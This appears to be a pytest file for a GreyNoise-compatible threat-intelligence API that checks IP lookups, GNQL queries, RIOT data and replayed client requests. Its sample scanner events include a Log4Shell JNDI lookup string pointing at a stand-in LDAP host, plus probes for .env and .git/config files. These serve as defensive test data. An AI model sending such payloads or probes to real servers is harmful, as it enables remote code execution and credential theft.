"""GreyNoise's API (v3 and v2) served by trawl: the documented request shapes
and the requests GreyNoise's official clients send (captured in
../shared/data/clients/greynoise-requests.txt), answers checked field by field."""
import json
import os
import re
import time
import urllib.parse

import pytest
import requests

from test_noise_cli import write_jsonl
from test_noise_tags import event, http, syn

CAPTURE = os.path.join(os.path.dirname(__file__), "..", "..", "..", "shared", "data", "clients",
                       "greynoise-requests.txt")


def load(trawl, tmp_path):
    trawl.run("noise", "import", write_jsonl(tmp_path / "ev.jsonl", [
        http("203.0.113.10", "/.env", "curl/8.0"),
        http("203.0.113.10", "/", "${jndi:ldap://198.51.100.9/a}"),
        http("203.0.113.11", "/.env", "curl/8.0"),
        http("203.0.113.11", "/.git/config", "python-requests/2.31.0", port=8080),
        syn("203.0.113.12", 23, ip_id=54321, tcp_window=65535),
        event("203.0.113.13", 22, "ssh", fields={"ssh_client": "SSH-2.0-Go",
                                                 "hassh": "b5752e36ba6c5979a575e43178908adf"}),
    ]), check=0)
    riot = tmp_path / "riot.csv"
    riot.write_text("# cidr,name,category,trust\n"
                    "198.51.100.0/24,Example DNS,public_dns,1,Resolvers of the example,https://example.test\n"
                    "198.51.100.53/32,Example Mail,email,2\n")
    trawl.run("noise", "riot", "import", riot, check=0)


@pytest.fixture
def gn(trawl, keys, tmp_path):
    load(trawl, tmp_path)
    from conftest import Server
    srv = Server(trawl)
    key = keys["reader"]

    def call(method, path, body=None, key=key):
        headers = {"key": key} if key else {}
        if body is not None:
            headers["Content-Type"] = "application/json"
        return requests.request(method, srv.url + path, headers=headers,
                                data=json.dumps(body) if body is not None else None, timeout=60)
    yield call
    srv.stop()


def test_key_header_and_error_bodies(gn):
    r = gn("GET", "/v3/ip/203.0.113.10", key=None)
    assert r.status_code == 401 and isinstance(r.json()["message"], str)
    r = gn("GET", "/v3/ip/203.0.113.10", key="not-a-key")
    assert r.status_code == 401 and "message" in r.json()
    r = gn("GET", "/ping")
    assert r.status_code == 200 and r.json()["message"] == "pong"
    r = gn("DELETE", "/v3/ip/203.0.113.10")
    assert r.status_code == 405 and "message" in r.json()


def test_v3_ip(gn):
    r = gn("GET", "/v3/ip/203.0.113.10")
    assert r.status_code == 200
    o = r.json()
    assert o["ip"] == "203.0.113.10"
    assert o["business_service_intelligence"] == {"found": False}
    i = o["internet_scanner_intelligence"]
    assert i["found"] is True and i["classification"] == "malicious"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", i["first_seen"]) and re.fullmatch(r"\d{4}-\d\d-\d\d", i["last_seen"])
    assert isinstance(i["spoofable"], bool) and i["bot"] is False and i["vpn"] is False
    assert i["vpn_service"] == "" and isinstance(i["tor"], bool) and isinstance(i["actor"], str)
    names = {t["name"] for t in i["tags"]}
    assert {".env Scanner", "Log4j RCE Attempt"} <= names
    for t in i["tags"]:
        assert set(t) >= {"id", "slug", "name", "category", "intention", "references", "cves",
                          "recommend_block", "created", "updated_at"}
        assert re.fullmatch(r"[0-9a-f-]{36}", t["id"])
    assert "CVE-2021-44228" in i["cves"]
    m = i["metadata"]
    for k in ("asn", "city", "country", "country_code", "organization", "rdns", "os", "category",
              "source_country", "source_country_code", "destination_countries"):
        assert k in m, k
    raw = i["raw_data"]
    assert {"port": 80, "protocol": "TCP"} in raw["scan"]
    assert "/.env" in raw["http"]["path"] and "curl/8.0" in raw["http"]["useragent"]
    assert isinstance(raw["ja3"], list) and isinstance(raw["hassh"], list)
    r = gn("GET", "/v3/ip/198.51.100.53").json()
    assert r["internet_scanner_intelligence"] == {"found": False}
    b = r["business_service_intelligence"]
    assert b["found"] is True and b["name"] == "Example Mail" and b["trust_level"] == "2"
    assert b["category"] == "email"
    assert gn("GET", "/v3/ip/198.51.100.1").json()["business_service_intelligence"]["name"] == "Example DNS"
    r = gn("GET", "/v3/ip/not.an.ip")
    assert r.status_code == 400 and "message" in r.json()


def test_v3_multi_and_quick(gn):
    r = gn("POST", "/v3/ip", {"ips": ["203.0.113.10", "203.0.113.200", "198.51.100.7"]})
    assert r.status_code == 200
    o = r.json()
    assert [d["ip"] for d in o["data"]] == ["203.0.113.10", "198.51.100.7"]
    assert o["request_metadata"]["ips_not_found"] == ["203.0.113.200"]
    r = gn("POST", "/v3/ip?quick=true", {"ips": ["203.0.113.12", "198.51.100.7"]}).json()
    assert r["data"][0] == {"ip": "203.0.113.12",
                            "business_service_intelligence": {"found": False},
                            "internet_scanner_intelligence": {"found": True, "classification": r["data"][0]["internet_scanner_intelligence"]["classification"]}}
    assert r["data"][1]["business_service_intelligence"] == {"found": True, "trust_level": "1"}
    r = gn("POST", "/v3/ip", {"ips": ["198.51.100.1"] * 1001})
    assert r.status_code == 400 and "1000" in r.json()["message"]
    r = gn("POST", "/v3/ip", {"ip": "x"})
    assert r.status_code == 400


def test_v3_gnql_paging_and_quick(gn):
    seen, scroll = [], ""
    while True:
        r = gn("GET", "/v3/gnql?" + urllib.parse.urlencode({"query": "ip:203.0.113.0/24", "size": 3,
                                                             "scroll": scroll, "quick": "False"}))
        assert r.status_code == 200
        o = r.json()
        md = o["request_metadata"]
        assert md["count"] == 4 and md["query"] == "ip:203.0.113.0/24"
        assert isinstance(md["complete"], bool) and isinstance(md["scroll"], str)
        for d in o["data"]:
            assert d["internet_scanner_intelligence"]["found"] is True
            assert "raw_data" in d["internet_scanner_intelligence"]
        seen += [d["ip"] for d in o["data"]]
        if md["complete"]:
            break
        scroll = md["scroll"]
    assert sorted(seen) == ["203.0.113.10", "203.0.113.11", "203.0.113.12", "203.0.113.13"]
    o = gn("GET", "/v3/gnql?query=tags:%22.env%20Scanner%22&quick=true").json()
    assert [d["ip"] for d in o["data"]] == ["203.0.113.10", "203.0.113.11"]
    assert set(o["data"][0]["internet_scanner_intelligence"]) == {"found", "classification"}
    o = gn("GET", "/v3/gnql?query=tags:Nothing").json()
    assert o["data"] == [] and o["request_metadata"]["count"] == 0
    assert o["request_metadata"]["message"] == "no results"
    r = gn("GET", "/v3/gnql?query=(tags:a")
    assert r.status_code == 400 and "position" in r.json()["message"]
    assert gn("GET", "/v3/gnql").status_code == 400


def test_community(gn):
    r = gn("GET", "/v3/community/203.0.113.10")
    assert r.status_code == 200
    o = r.json()
    assert set(o) == {"ip", "noise", "riot", "classification", "name", "link", "last_seen", "message"}
    assert o["noise"] is True and o["riot"] is False and o["classification"] == "malicious"
    r = gn("GET", "/v3/community/203.0.113.250")
    assert r.status_code == 404
    assert r.json() == {"ip": "203.0.113.250", "noise": False, "riot": False,
                        "message": "IP not observed scanning the internet or contained in RIOT data set."}
    r = gn("GET", "/v3/community/300.1.1.1")
    assert r.status_code == 400 and "message" in r.json()
    o = gn("GET", "/v3/community/198.51.100.20").json()
    assert o["riot"] is True and o["name"] == "Example DNS" and o["classification"] == "benign"


def test_v2(gn, keys):
    assert gn("GET", "/v2/noise/quick/203.0.113.10").json() == {
        "ip": "203.0.113.10", "noise": True, "riot": False, "code": "0x01"}
    assert gn("GET", "/v2/noise/quick/203.0.113.12").json()["code"] == "0x02"   # spoofable
    assert gn("GET", "/v2/noise/quick/203.0.113.99").json() == {
        "ip": "203.0.113.99", "noise": False, "riot": False, "code": "0x00"}
    q = gn("POST", "/v2/noise/multi/quick", {"ips": ["203.0.113.10", "198.51.100.7", "bad"]}).json()
    assert [x["code"] for x in q] == ["0x01", "0x00", "0x07"] and q[1]["riot"] is True
    q = gn("GET", "/v2/noise/multi/quick?ips=203.0.113.10,203.0.113.11").json()
    assert [x["noise"] for x in q] == [True, True]
    c = gn("GET", "/v2/noise/context/203.0.113.11").json()
    assert set(c) == {"ip", "seen", "first_seen", "last_seen", "tags", "actor", "spoofable",
                      "classification", "cve", "bot", "vpn", "vpn_service", "metadata", "raw_data"}
    assert c["seen"] is True and set(c["raw_data"]) >= {"scan", "web", "ja3", "hassh"}
    assert "/.git/config" in c["raw_data"]["web"]["paths"]
    assert gn("GET", "/v2/noise/context/203.0.113.99").json() == {"ip": "203.0.113.99", "seen": False}
    mc = gn("POST", "/v2/noise/multi/context", {"ips": ["203.0.113.11", "203.0.113.99"]}).json()
    assert [x["seen"] for x in mc["data"]] == [True, False]
    rt = gn("GET", "/v2/riot/198.51.100.53").json()
    assert rt["riot"] is True and rt["name"] == "Example Mail" and rt["trust_level"] == "2"
    assert set(rt) >= {"ip", "riot", "category", "name", "description", "explanation",
                       "last_updated", "logo_url", "reference", "trust_level"}
    assert gn("GET", "/v2/riot/203.0.113.10").json() == {"ip": "203.0.113.10", "riot": False}
    g = gn("GET", "/v2/experimental/gnql?query=raw_data.scan.port:8080").json()
    assert g["count"] == 1 and g["data"][0]["ip"] == "203.0.113.11" and g["complete"] is True
    s = gn("GET", "/v2/experimental/gnql/stats?query=ip:203.0.113.0/24&count=5").json()
    assert s["count"] == 4
    for k in ("classifications", "spoofable", "organizations", "actors", "countries", "tags",
              "operating_systems", "categories", "asns", "destination_countries"):
        assert isinstance(s["stats"][k], list), k
    assert {"tag", "count"} == set(s["stats"]["tags"][0])
    # Flagging writes: an analyst key (docs/security.md).
    assert gn("POST", "/v2/interesting/203.0.113.10", key=keys["analyst"]).status_code == 200
    assert gn("POST", "/v2/interesting/nonsense", key=keys["analyst"]).status_code == 400
    md = gn("GET", "/v2/meta/metadata").json()["metadata"]
    log4j = [t for t in md if t["name"] == "Log4j RCE Attempt"][0]
    assert "CVE-2021-44228" in log4j["cves"] and log4j["intention"] == "malicious"
    assert set(log4j) >= {"id", "slug", "name", "category", "intention", "description",
                          "references", "cves"}


def test_timeline_hourly_similarity_cve(gn):
    t = gn("GET", "/v3/noise/ips/203.0.113.11/timeline?field=destination_port&days=7").json()
    assert t["metadata"]["ip"] == "203.0.113.11" and t["metadata"]["field"] == "destination_port"
    assert sorted(x["label"] for x in t["results"]) == ["80", "8080"]
    assert all(x["data"] == 1 for x in t["results"])
    t = gn("GET", "/v3/noise/ips/203.0.113.11/timeline?field=classification&days=7").json()
    assert t["results"][0]["label"] == "malicious" and t["results"][0]["data"] == 2
    assert gn("GET", "/v3/noise/ips/203.0.113.11/timeline?field=colour").status_code == 400
    h = gn("GET", "/v3/noise/ips/203.0.113.11/hourly-summary?limit=100&days=1").json()
    assert sum(a["events"] for a in h["activity"]) == 2
    assert sorted(p for a in h["activity"] for p in a["destination_ports"]) == [80, 8080]
    s = gn("GET", "/v3/similarity/ips/203.0.113.10?limit=5&minimum_score=0.1").json()
    assert s["ip"]["ip"] == "203.0.113.10"
    assert [x["ip"] for x in s["similar_ips"]] == ["203.0.113.11"]
    x = s["similar_ips"][0]
    assert 0.1 <= x["score"] <= 1 and "web_paths" in x["features"] and "useragents" in x["features"]
    assert gn("GET", "/v3/similarity/ips/203.0.113.10?minimum_score=0.99").json()["similar_ips"] == []
    assert gn("GET", "/v3/similarity/ips/203.0.113.99").status_code == 404
    c = gn("GET", "/v1/cve/CVE-2021-44228").json()
    assert c["id"] == "CVE-2021-44228"
    a = c["exploitation_activity"]
    assert a["activity_seen"] is True and a["threat_ip_count_1d"] == 1 and a["benign_ip_count_30d"] == 0
    assert gn("GET", "/v1/cve/CVE-1999-0001").status_code == 404
    assert gn("GET", "/v1/cve/log4shell").status_code == 400


def captured_requests():
    if not os.path.exists(CAPTURE):
        return None
    reqs, cur = [], None
    for line in open(CAPTURE):
        m = re.match(r"  (GET|POST) (\S+)$", line)
        if m:
            cur = {"method": m.group(1), "target": m.group(2), "body": None}
            reqs.append(cur)
        m = re.match(r"    body:\s+(.*)$", line)
        if m and cur:
            cur["body"] = m.group(1)
    return reqs


def test_replay_captured_client_requests(gn, keys):
    reqs = captured_requests()
    if reqs is None:
        pytest.skip("missing %s" % os.path.normpath(CAPTURE))
    assert len(reqs) > 30
    for q in reqs:
        # The captures ask about 8.8.8.8 and 1.1.1.1; ask about our own sources.
        target = q["target"].replace("8.8.8.8", "203.0.113.10").replace("1.1.1.1", "203.0.113.99")
        body = q["body"].replace("8.8.8.8", "203.0.113.10").replace("1.1.1.1", "203.0.113.99") \
            if q["body"] else None
        path = target.split("?")[0]
        # Flagging an IP writes: the client is given an analyst key for it.
        key = keys["analyst"] if path.startswith("/v2/interesting/") else keys["reader"]
        r = gn(q["method"], target, json.loads(body) if body else None, key=key)
        # A scroll token this server never gave ("abc") is refused.
        want = 400 if "scroll=abc" in target else 200
        assert r.status_code == want, (q, r.status_code, r.text[:300])
        o = r.json()
        if want == 400:
            assert "scroll" in o["message"]
        elif path == "/v3/ip" and "quick=true" in target:
            assert o["data"][0]["internet_scanner_intelligence"] == {"found": True, "classification": "malicious"}
        elif path.startswith("/v3/ip/"):
            assert o["internet_scanner_intelligence"]["found"] is True
        elif path == "/v3/ip":
            assert o["request_metadata"]["ips_not_found"] == ["203.0.113.99"]
        elif path == "/v3/gnql":
            assert o["request_metadata"]["query"] in ("tags:Mirai", "classification:malicious")
        elif path.startswith("/v3/community/"):
            assert o["noise"] is True
        elif path == "/v2/noise/multi/quick":
            assert o[0]["code"] == "0x01"
        elif path.startswith("/v2/noise/context/"):
            assert o["seen"] is True
        elif path == "/v2/experimental/gnql/stats":
            assert o["count"] >= 1
        elif path == "/ping":
            assert o["message"] == "pong"


def test_server_builds_the_gnql_index_at_start(trawl, tmp_path):
    # Quick checks and GNQL read an in-memory index; the server builds it as
    # it starts (seconds at a million addresses) instead of making the first
    # lookup after a restart wait. Its log line says how many it holds.
    load(trawl, tmp_path)
    import select
    from conftest import Server
    srv = Server(trawl, "--anonymous-read")
    try:
        seen, deadline = "", time.time() + 60
        while "GNQL index ready" not in seen and time.time() < deadline:
            if select.select([srv.proc.stderr], [], [], 1)[0]:
                line = srv.proc.stderr.readline()
                if not line:
                    break
                seen += line
        m = re.search(r"GNQL index ready, (\d+) addresses", seen)
        assert m, seen
        assert int(m.group(1)) == 4        # 203.0.113.10-13; RIOT ranges are no noise records
        r = requests.get(srv.url + "/v2/noise/quick/203.0.113.12", timeout=30)
        assert r.status_code == 200 and r.json()["noise"] is True
    finally:
        srv.stop()
